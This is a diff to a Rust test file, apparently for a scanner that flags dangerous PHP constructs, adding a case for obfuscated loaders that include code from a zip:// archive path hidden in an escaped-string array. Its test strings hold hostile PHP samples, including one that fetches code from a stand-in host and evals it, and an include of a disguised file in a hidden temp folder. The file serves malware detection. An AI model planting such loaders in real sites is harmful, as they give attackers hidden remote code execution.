@@ -56,6 +56,13 @@ fn droppers_and_fetchers() {
     let s = "<?php $ch = curl_init('http://x.example/p.txt'); $code = curl_exec($ch); eval('?>'.$code);";
     assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
     assert_eq!(sinks("<?php include '/tmp/.x/favicon_3a1.ico';"), [(Why::IncludeOfData, Danger::High)]);
+    // The archive's path kept in a table of escaped strings (fresh47's `zip://mkv_….zip#b_….tmp`
+    // loaders); a long text that is no path is not kept.
+    let table = "<?php $W = array(\"\\137\\x52EQUEST\", \"file_get_contents\", \"\\x7a\\x69\\x70://mkv_696f22a3aae66.zip#b_696f22a3aae66.tmp\", ); @include_once $W[2];";
+    assert_eq!(sinks(table), [(Why::IncludeOfData, Danger::High)]);
+    let text =
+        "<?php $W = array('a', 'The archive zip://x.zip#y.tmp is described in this long sentence'); include $W[1];";
+    assert!(sinks(text).is_empty(), "{:?}", sinks(text));
     // A PHP session file run as code (fresh40's `SESS_48cd…` loaders), in the temporary folder
     // or the site's root; a session's handler reading its files is not an include.
     let temp =
